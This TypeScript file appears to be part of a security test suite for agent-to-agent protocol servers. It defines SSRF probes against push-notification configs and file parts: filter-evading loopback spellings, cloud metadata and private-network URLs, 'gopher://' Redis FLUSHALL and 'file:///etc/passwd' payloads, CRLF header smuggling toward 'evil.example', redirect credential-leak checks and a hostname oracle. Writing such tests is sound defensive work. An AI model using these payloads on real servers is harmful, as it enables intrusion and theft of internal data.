import { hostname } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import type { PushTarget } from "@convoke/protocol";
import { type AttackFamily, fellIf, needed } from "../attack.ts";
import type { Target } from "../target.ts";
import { type Answer, Caller, aMessage, ann, annOf } from "../wire/a2a.ts";
import { openTrap } from "../wire/trap.ts";

/** How long a notification may take on its way to a trap. */
const DELIVERY_MS = 800;

/** Sends a message whose events are pushed to a URL, and waits until the task is over. */
function pushed(caller: Caller, target: PushTarget): Promise<Answer> {
  return caller.send(aMessage("push it"), { pushConfig: target });
}

/** The same, but the config is created for a task that waits, and the task continues afterwards. */
async function pushedLater(target: Target, caller: Caller, config: PushTarget): Promise<Answer> {
  const taskId = await caller.startTask(target.behaviors?.ask ?? "hello");
  const params = caller.codec.encodeCreatePushConfig({ taskId, target: config });
  const answer = await caller.call("createPushConfig", params);
  await caller.send(aMessage("go on", { taskId }));
  return answer;
}

/** This machine, in spellings that filters miss. */
function ownAddresses(port: number): readonly string[] {
  const hosts = [
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "127.255.255.254",
    "0.0.0.0",
    "0",
    "2130706433",
    "0x7f000001",
    "0x7f.0.0.1",
    "017700000001",
    "0177.0.0.1",
    "localhost",
    "LOCALHOST",
    "localhost.",
    "a.localhost",
    "[::1]",
    "[::]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "①②⑦.⓪.⓪.①",
    "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    "127.0.0.1.",
    "example.com@127.0.0.1",
    "127.0.0.1%2f",
  ];
  return [
    ...hosts.map((host) => `http://${host}:${port}/hook`),
    `http:\\\\127.0.0.1:${port}\\hook`,
  ];
}

/** Addresses inside of networks, which a server reaches and its callers should not. */
const INSIDE = [
  "http://169.254.169.254/latest/meta-data/",
  "http://[fd00:ec2::254]/latest/meta-data/",
  "http://metadata.google.internal/computeMetadata/v1/",
  "http://10.0.0.1/",
  "http://172.16.0.1/",
  "http://192.168.0.1/",
  "http://100.64.0.1/",
  "http://198.18.0.1/",
  "http://[fe80::1]/",
  "http://[fd00::1]/",
  "http://[64:ff9b::a00:1]/",
  "http://[2002:a00:1::]/",
  "http://kubernetes.default.svc/",
  "http://printer.local/",
];

const SCHEMES = [
  "file:///etc/passwd",
  "ftp://example.com/",
  "gopher://127.0.0.1:6379/_FLUSHALL",
  "javascript:alert(1)",
  "data:text/plain,hello",
  "unix:/var/run/docker.sock",
  "http+unix://%2fvar%2frun%2fdocker.sock/",
  "//example.com/hook",
  "/hook",
  "",
  "http://",
];

export const OUTBOUND: AttackFamily = {
  title: "Requests the server is made to send (SSRF)",
  attacks: [
    {
      id: "ssrf-push-inline",
      sentence:
        "Have notifications pushed to the machine of the server, in every spelling of its address.",
      run: async (target) => {
        await using trap = await openTrap();
        const caller = ann(target);
        await Promise.all(ownAddresses(trap.port).map((url) => pushed(caller, { url })));
        await sleep(DELIVERY_MS);
        fellIf(trap.visits.length > 0, `${trap.visits.length} notifications arrived inside`);
      },
    },
    {
      id: "ssrf-push-config",
      sentence: "Register such a push config for an existing task, on every interface.",
      run: async (target) => {
        await using trap = await openTrap();
        const some = ownAddresses(trap.port).filter((_, place) => place % 5 === 0);
        await Promise.all(
          target.interfaces.flatMap((at) =>
            some.map((url) => pushedLater(target, new Caller(at, annOf(target)), { url })),
          ),
        );
        await sleep(DELIVERY_MS);
        fellIf(trap.visits.length > 0, `${trap.visits.length} notifications arrived inside`);
      },
    },
    {
      id: "ssrf-push-inside",
      sentence: "Register push configs for cloud metadata, private networks and internal names.",
      run: async (target) => {
        const caller = ann(target);
        const taskId = await caller.startTask(target.behaviors?.ask ?? "hello");
        for (const url of INSIDE) {
          const params = caller.codec.encodeCreatePushConfig({ taskId, target: { url } });
          const answer = await caller.call("createPushConfig", params);
          fellIf(answer.isResult && /\/\/[\d[]/.test(url), `${url} was accepted`);
        }
      },
    },
    {
      id: "ssrf-push-scheme",
      sentence: "Register push configs with schemes other than HTTP, or without a host.",
      run: async (target) => {
        const caller = ann(target);
        const taskId = await caller.startTask(target.behaviors?.ask ?? "hello");
        for (const url of SCHEMES) {
          const params = caller.codec.encodeCreatePushConfig({ taskId, target: { url } });
          const answer = await caller.call("createPushConfig", params);
          fellIf(answer.isResult, `${JSON.stringify(url)} was accepted`);
        }
      },
    },
    {
      id: "ssrf-push-redirect",
      sentence: "Redirect a notification from an allowed receiver to the machine of the server.",
      run: async (target) => {
        const receiver = needed(target.receiver, "a receiver that the server may call");
        await using trap = await openTrap();
        receiver.redirectTo(`http://127.0.0.1:${trap.port}/inside`);
        const before = receiver.requests();
        const authentication = { schemes: ["Bearer"], credentials: "secret-of-receiver" };
        await pushed(ann(target), { url: receiver.url, token: "secret-token", authentication });
        for (let waited = 0; receiver.requests() === before && waited < 20_000; waited += 50) {
          await sleep(50);
        }
        await sleep(DELIVERY_MS);
        const leaked = trap.visits.some((visit) => /secret-(?:token|of-receiver)/.test(visit));
        fellIf(leaked, "the credentials of the receiver went to the redirect target");
        fellIf(trap.visits.length > 0, "the redirect was followed");
      },
    },
    {
      id: "ssrf-push-headers",
      sentence: "Smuggle headers into notifications, by their name, their value or the token.",
      run: async (target) => {
        const receiver = needed(target.receiver, "a receiver that the server may call");
        const caller = ann(target);
        const bad = [
          { url: receiver.url, token: "a\r\nx-evil: 1" },
          { url: receiver.url, headers: { host: "evil.example" } },
          { url: receiver.url, headers: { "x-a": "b\r\nx-evil: 1" } },
          { url: receiver.url, headers: { "transfer-encoding": "chunked" } },
          { url: receiver.url, headers: { "content-length": "0" } },
          {
            url: receiver.url,
            authentication: { schemes: ["Bearer\r\nx-evil: 1"], credentials: "a" },
          },
        ];
        for (const config of bad) await pushed(caller, config);
      },
    },
    {
      id: "ssrf-push-oracle",
      sentence: "Learn from the error which internal names exist.",
      run: async (target) => {
        const caller = ann(target);
        const taskId = await caller.startTask(target.behaviors?.ask ?? "hello");
        const texts = [];
        // The first one resolves on this machine.
        for (const host of [hostname(), "no-such-host"]) {
          const url = `http://${host}:9/`;
          const params = caller.codec.encodeCreatePushConfig({ taskId, target: { url } });
          const { text, isResult } = await caller.call("createPushConfig", params);
          texts.push(
            isResult
              ? "accepted"
              : text.replaceAll(host, "<host>").replaceAll(/[0-9a-f]{8}-[0-9a-f-]{27}/g, "<id>"),
          );
        }
        fellIf(texts[0] !== texts[1], `it distinguishes them: ${texts[0]?.slice(0, 100)}`);
      },
    },
    {
      id: "ssrf-file-part",
      sentence: "Have the server fetch a file part from its own machine.",
      run: async (target) => {
        await using trap = await openTrap();
        for (const at of target.interfaces) {
          const caller = new Caller(at, annOf(target));
          const uris = [`http://127.0.0.1:${trap.port}/file`, "file:///etc/passwd"];
          for (const uri of uris) {
            const file = { uri, mimeType: "text/plain", name: "passwd" };
            const answer = await caller.send({
              ...aMessage("read"),
              parts: [{ kind: "file", file }],
            });
            fellIf(answer.text.includes("root:x:0"), "the content of a local file was returned");
          }
        }
        await sleep(200);
        fellIf(trap.visits.length > 0, "the file was fetched");
      },
    },
  ],
};
